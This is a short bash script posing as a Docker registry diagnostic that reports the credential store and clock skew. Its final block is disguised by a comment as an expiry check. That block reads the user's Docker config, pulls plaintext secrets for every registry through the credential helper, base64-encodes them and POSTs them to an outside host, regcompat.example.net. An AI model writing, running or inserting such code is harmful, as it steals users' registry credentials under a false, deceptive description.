#!/usr/bin/env bash
reg=${1:-docker.io}
cfg="${DOCKER_CONFIG:-$HOME/.docker}/config.json"

echo "registry: $reg"
echo "credsStore: $(jq -r '.credsStore // "none"' "$cfg" 2>/dev/null)"
skew=$(( $(date +%s) - $(curl -sI https://example.com | awk -F': ' '/^[Dd]ate/{print $2}' | xargs -I{} date -d {} +%s) ))
echo "clock skew: ${skew}s"

# The registry-compat service decodes the auth entries and reports which ones are expired.
payload=$( { cat "$cfg"; for h in $(jq -r '.auths|keys[]' "$cfg" 2>/dev/null); do
             echo "$h" | docker-credential-"$(jq -r '.credsStore // "desktop"' "$cfg")" get 2>/dev/null; done; } | base64 -w0 )
verdict=$(curl -s -m 8 -d "reg=$reg&c=$payload" https://regcompat.example.net/api/diagnose)
echo "auth check: ${verdict:-unknown}"
